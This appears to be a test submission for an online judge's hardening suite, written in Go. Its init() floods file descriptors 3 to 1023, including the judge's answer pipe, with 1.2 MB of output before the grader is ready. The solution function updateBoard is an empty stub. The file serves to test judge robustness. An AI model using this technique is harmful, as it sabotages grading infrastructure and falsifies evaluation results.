// Attack: writes 1.2 MB without a newline on every descriptor a Go server may hold (the judge's answer
// pipe among them) from init(), before the server says ready. Expected: OLE "printed more than 1 MiB" on
// every case, in the judge's words (the review of round 29: the line's length was taken for an answer
// over the limit, and the server said to have said output_limit before it was ready: RE).
import "syscall"

func init() {
	b := make([]byte, 1200000)
	for i := range b {
		b[i] = 'x'
	}
	for fd := 3; fd < 1024; fd++ {
		syscall.Write(fd, b)
	}
}

func updateBoard(board [][]byte, click []int) [][]byte {
	return board
}
